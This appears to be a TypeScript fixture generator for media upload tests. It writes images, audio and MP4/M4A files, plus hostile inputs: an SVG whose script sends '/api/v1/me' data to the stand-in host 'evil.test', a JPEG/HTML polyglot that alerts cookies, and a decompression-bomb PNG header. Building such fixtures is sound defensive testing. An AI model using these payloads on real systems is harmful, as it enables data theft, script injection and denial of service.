/**
 * Files for the media tests and bench, made on the spot (sharp, the MP3/Ogg encoders, or bytes by hand):
 * nothing is downloaded or checked in. Each writes to the path it is given.
 */
import { writeFile } from 'node:fs/promises'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { createMp3Encoder, createOggEncoder } from 'wasm-media-encoders'

/** A deterministic noise source (mulberry32), so two runs write the same bytes. */
function noise(seed: number) {
  let state = seed >>> 0 || 1
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

/** RGB pixels that compress like a photo: smooth gradients with a little grain. */
export function photoPixels(width: number, height: number, seed = 1): Buffer {
  const pixels = Buffer.allocUnsafe(width * height * 3)
  const random = noise(seed)
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const grain = (random() * 24) | 0
      const at = (y * width + x) * 3
      pixels[at] = ((x * 220) / width + grain) | 0
      pixels[at + 1] = ((y * 220) / height + grain) | 0
      pixels[at + 2] = (((x + y) * 110) / (width + height) + 60 + grain) | 0
    }
  }
  return pixels
}

function photo(width: number, height: number, seed = 1) {
  return sharp(photoPixels(width, height, seed), { raw: { width, height, channels: 3 } })
}

/** Where the fixture's GPS says it was taken: the Gateway of India. */
export const FIXTURE_GPS = { latitude: '18/1 55/1 1296/100', longitude: '72/1 50/1 1236/100' }

/** A 1600×1200 JPEG carrying EXIF (camera, GPS position), XMP and a Display P3 ICC profile. */
export async function jpegWithGps(path: string, { width = 1600, height = 1200 } = {}) {
  await photo(width, height, 2)
    .jpeg({ quality: 85 })
    .withIccProfile('p3')
    .withExif({
      IFD0: { Make: 'FixtureCam', Model: 'Leaky 1', Copyright: 'Priya Sharma' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: FIXTURE_GPS.latitude,
        GPSLongitudeRef: 'E',
        GPSLongitude: FIXTURE_GPS.longitude,
      },
    })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
        '<rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="FixtureCam"/>' +
        '</rdf:RDF></x:xmpmeta>',
    )
    .toFile(path)
}

/** Stored 600×300 with EXIF Orientation 6 (turn 90° clockwise): upright, it is 300×600. */
export async function rotatedJpeg(path: string) {
  await photo(600, 300, 3).jpeg().withMetadata({ orientation: 6 }).toFile(path)
}

export async function png(path: string, width: number, height: number) {
  await photo(width, height, 4).png().toFile(path)
}

export async function webp(path: string, width: number, height: number) {
  await photo(width, height, 5).webp().toFile(path)
}

export async function gif(path: string) {
  await photo(40, 30, 6).gif().toFile(path)
}

function pngChunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/**
 * A decompression bomb's calling card: a PNG of a few dozen bytes whose IHDR (with a valid CRC) claims
 * 30000×30000 pixels, 900 megapixels, 2.7 GB decoded.
 */
export async function hugePngHeader(path: string, side = 30_000) {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(side, 0)
  ihdr.writeUInt32BE(side, 4)
  ihdr.writeUInt8(8, 8) // bit depth
  ihdr.writeUInt8(2, 9) // truecolour
  const firstRow = deflateSync(Buffer.alloc(1 + side * 3))
  await writeFile(
    path,
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      pngChunk('IHDR', ihdr),
      pngChunk('IDAT', firstRow),
      pngChunk('IEND', new Uint8Array(0)),
    ]),
  )
}

/** A real JPEG cut off at 60%, as an interrupted upload leaves it. */
export async function truncatedJpeg(path: string) {
  const whole = await photo(800, 600, 7).jpeg().toBuffer()
  await writeFile(path, whole.subarray(0, Math.floor(whole.length * 0.6)))
}

export async function largeJpeg(path: string, megapixels = 12) {
  const width = Math.round(Math.sqrt((megapixels * 1_000_000 * 4) / 3))
  const height = Math.round((width * 3) / 4)
  await photo(width, height, 8).jpeg({ quality: 90 }).toFile(path)
}

export async function svgWithScript(path: string) {
  await writeFile(
    path,
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("/api/v1/me").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.test", t))</script>' +
      '<rect width="100" height="100" fill="red"/></svg>\n',
  )
}

/** JPEG's SOI and JFIF APP0 header, then an HTML page: it sniffs as a JPEG and decodes as nothing. */
export async function polyglot(path: string) {
  const app0 = Buffer.from([
    0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00,
    0x00,
  ])
  const html = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>\n'
  await writeFile(path, Buffer.concat([app0, Buffer.from(html.repeat(20))]))
}

/** An ISO BMFF box: size, type, body. */
function box(type: string, ...body: Uint8Array[]): Buffer {
  const content = Buffer.concat(body)
  const header = Buffer.alloc(8)
  header.writeUInt32BE(8 + content.length)
  header.write(type, 4, 'latin1')
  return Buffer.concat([header, content])
}

function ftyp(major: string, ...compatible: string[]) {
  return box('ftyp', Buffer.from(major, 'latin1'), Buffer.alloc(4), Buffer.from(compatible.join(''), 'latin1'))
}

/** An iPhone photo's first box, which is all a sniffer sees: ftyp heic. */
export async function heic(path: string) {
  await writeFile(path, Buffer.concat([ftyp('heic', 'mif1', 'heic'), box('meta', Buffer.alloc(64))]))
}

/** An MP4 whose tracks are the given handler types ('soun', 'vide'), under a generic brand (isom). */
export async function mp4WithTracks(path: string, handlers: string[]) {
  const traks = handlers.map((handler) =>
    box('trak', box('mdia', box('hdlr', Buffer.alloc(8), Buffer.from(handler, 'latin1'), Buffer.alloc(13)))),
  )
  await writeFile(
    path,
    Buffer.concat([ftyp('isom', 'isom', 'mp42'), box('mdat', Buffer.alloc(256)), box('moov', ...traks)]),
  )
}

/** A full box (ISO/IEC 14496-12 §4.2): version 0, the flags, then the fields. */
function fullBox(type: string, flags: number, ...fields: Uint8Array[]) {
  const versionAndFlags = Buffer.alloc(4)
  versionAndFlags.writeUInt32BE(flags)
  return box(type, versionAndFlags, ...fields)
}

function uint32s(...values: number[]) {
  const bytes = Buffer.alloc(values.length * 4)
  values.forEach((value, i) => bytes.writeUInt32BE(value, i * 4))
  return bytes
}

/** The identity matrix of mvhd and tkhd. */
const MATRIX = uint32s(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)

/**
 * An M4A (brand M4A, as an iPhone's Voice Memos writes) of tonePcm, its one sound track 16-bit PCM
 * ('sowt'): no AAC encoder runs here, and the demuxing, the container check and the decoding are the
 * same for any codec inside.
 */
export async function m4a(path: string, seconds: number, { sampleRate = 44_100 } = {}) {
  const [samples = new Float32Array(0)] = tonePcm(seconds, sampleRate)
  const pcm = Buffer.alloc(samples.length * 2)
  samples.forEach((sample, i) => pcm.writeInt16LE(Math.round(sample * 32767), i * 2))
  const fileType = ftyp('M4A ', 'M4A ', 'mp42', 'isom')
  const frames = samples.length
  const mdhdTail = Buffer.from([0x55, 0xc4, 0, 0]) // language 'und', pre_defined
  const soundEntry = Buffer.alloc(28)
  soundEntry.writeUInt16BE(1, 6) // data_reference_index
  soundEntry.writeUInt16BE(1, 16) // channels
  soundEntry.writeUInt16BE(16, 18) // bits
  soundEntry.writeUInt32BE(sampleRate * 0x10000, 24)
  const moov = box(
    'moov',
    fullBox(
      'mvhd',
      0,
      uint32s(0, 0, sampleRate, frames, 0x10000),
      Buffer.from([1, 0]),
      Buffer.alloc(10),
      MATRIX,
      Buffer.alloc(24),
      uint32s(2),
    ),
    box(
      'trak',
      fullBox('tkhd', 7, uint32s(0, 0, 1, 0, frames, 0, 0, 0), Buffer.from([1, 0, 0, 0]), MATRIX, uint32s(0, 0)),
      box(
        'mdia',
        fullBox('mdhd', 0, uint32s(0, 0, sampleRate, frames), mdhdTail),
        fullBox(
          'hdlr',
          0,
          uint32s(0),
          Buffer.from('soun', 'latin1'),
          Buffer.alloc(12),
          Buffer.from('SoundHandler\0', 'latin1'),
        ),
        box(
          'minf',
          fullBox('smhd', 0, Buffer.alloc(4)),
          box('dinf', fullBox('dref', 0, uint32s(1), fullBox('url ', 1))),
          box(
            'stbl',
            fullBox('stsd', 0, uint32s(1), box('sowt', soundEntry)),
            fullBox('stts', 0, uint32s(1, frames, 1)),
            fullBox('stsc', 0, uint32s(1, 1, frames, 1)),
            fullBox('stsz', 0, uint32s(2, frames)),
            fullBox('stco', 0, uint32s(1, fileType.length + 8)),
          ),
        ),
      ),
    ),
  )
  await writeFile(path, Buffer.concat([fileType, box('mdat', pcm), moov]))
}

export async function pdf(path: string) {
  await writeFile(path, '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
}

/**
 * A voice-like test signal: a few sine tones that come and go, loudest in the middle, silent for its
 * first tenth (so a waveform has both quiet and loud slices).
 */
export function tonePcm(seconds: number, sampleRate: number, channels: 1 | 2 = 1): Float32Array[] {
  const frames = Math.round(seconds * sampleRate)
  return Array.from({ length: channels }, (_, channel) => {
    const samples = new Float32Array(frames)
    for (let i = 0; i < frames; i++) {
      const t = i / sampleRate
      const position = i / frames
      const envelope = position < 0.1 ? 0 : Math.sin(Math.PI * position) * (0.6 + 0.4 * Math.sin(2 * Math.PI * 3 * t))
      const tones =
        0.5 * Math.sin(2 * Math.PI * (220 + channel * 110) * t) +
        0.3 * Math.sin(2 * Math.PI * 330 * t) +
        0.2 * Math.sin(2 * Math.PI * 440 * t)
      samples[i] = 0.8 * envelope * tones
    }
    return samples
  })
}

function wavHeader(dataBytes: number, { sampleRate, channels }: { sampleRate: number; channels: number }) {
  const header = Buffer.alloc(44)
  header.write('RIFF', 0, 'latin1')
  header.writeUInt32LE(36 + dataBytes, 4)
  header.write('WAVE', 8, 'latin1')
  header.write('fmt ', 12, 'latin1')
  header.writeUInt32LE(16, 16)
  header.writeUInt16LE(1, 20) // PCM
  header.writeUInt16LE(channels, 22)
  header.writeUInt32LE(sampleRate, 24)
  header.writeUInt32LE(sampleRate * channels * 2, 28)
  header.writeUInt16LE(channels * 2, 32)
  header.writeUInt16LE(16, 34)
  header.write('data', 36, 'latin1')
  header.writeUInt32LE(dataBytes, 40)
  return header
}

/** A 16-bit PCM WAV of tonePcm, or of silence. */
export async function wav(
  path: string,
  seconds: number,
  {
    sampleRate = 44_100,
    channels = 1,
    silent = false,
  }: { sampleRate?: number; channels?: 1 | 2; silent?: boolean } = {},
) {
  const planes = silent
    ? Array.from({ length: channels }, () => new Float32Array(Math.round(seconds * sampleRate)))
    : tonePcm(seconds, sampleRate, channels)
  const frames = planes[0]?.length ?? 0
  const data = Buffer.alloc(frames * channels * 2)
  for (let i = 0; i < frames; i++) {
    for (let channel = 0; channel < channels; channel++) {
      const sample = Math.max(-1, Math.min(1, planes[channel]?.[i] ?? 0))
      data.writeInt16LE(Math.round(sample * 32767), (i * channels + channel) * 2)
    }
  }
  await writeFile(path, Buffer.concat([wavHeader(data.length, { sampleRate, channels }), data]))
}

/** The header of a 2-second 44.1 kHz WAV pasted onto 1.5 seconds' worth of random bytes. */
export async function wavHeaderOnRandomBytes(path: string) {
  const random = noise(9)
  const bytes = Buffer.from(Array.from({ length: 132_300 }, () => (random() * 256) | 0))
  await writeFile(path, Buffer.concat([wavHeader(176_400, { sampleRate: 44_100, channels: 1 }), bytes]))
}

/** An ID3v2.3 tag with a title, an artist and a comment: what the served MP3 must not carry. */
export function id3Tag(): Buffer {
  const frame = (id: string, text: string) => {
    const body = Buffer.concat([Buffer.from([0]), Buffer.from(text, 'latin1')])
    const header = Buffer.alloc(10)
    header.write(id, 0, 'latin1')
    header.writeUInt32BE(body.length, 4)
    return Buffer.concat([header, body])
  }
  const frames = Buffer.concat([
    frame('TIT2', 'Showreel voice take 3'),
    frame('TPE1', 'Priya Sharma'),
    frame('TXXX', '\u0000home: 12 Marine Drive, Mumbai'),
  ])
  const header = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 0])
  // The size is "syncsafe": 7 bits a byte.
  for (let i = 0; i < 4; i++) header[9 - i] = (frames.length >> (7 * i)) & 0x7f
  return Buffer.concat([header, frames])
}

/** An MP3 of tonePcm (LAME, VBR), with an ID3v2 tag in front unless `tagged` is false. */
export async function mp3(
  path: string,
  seconds: number,
  {
    sampleRate = 44_100,
    channels = 1,
    tagged = true,
  }: { sampleRate?: number; channels?: 1 | 2; tagged?: boolean } = {},
) {
  const encoder = await createMp3Encoder()
  encoder.configure({ sampleRate, channels, vbrQuality: 5 })
  const planes = tonePcm(seconds, sampleRate, channels)
  const parts = [tagged ? id3Tag() : Buffer.alloc(0), Buffer.from(encoder.encode(planes))]
  parts.push(Buffer.from(encoder.finalize()))
  await writeFile(path, Buffer.concat(parts))
}

/** An Ogg Vorbis file of tonePcm. */
export async function ogg(path: string, seconds: number, { sampleRate = 44_100 } = {}) {
  const encoder = await createOggEncoder()
  encoder.configure({ sampleRate, channels: 1, vbrQuality: 3 })
  const first = Buffer.from(encoder.encode(tonePcm(seconds, sampleRate)))
  await writeFile(path, Buffer.concat([first, Buffer.from(encoder.finalize())]))
}
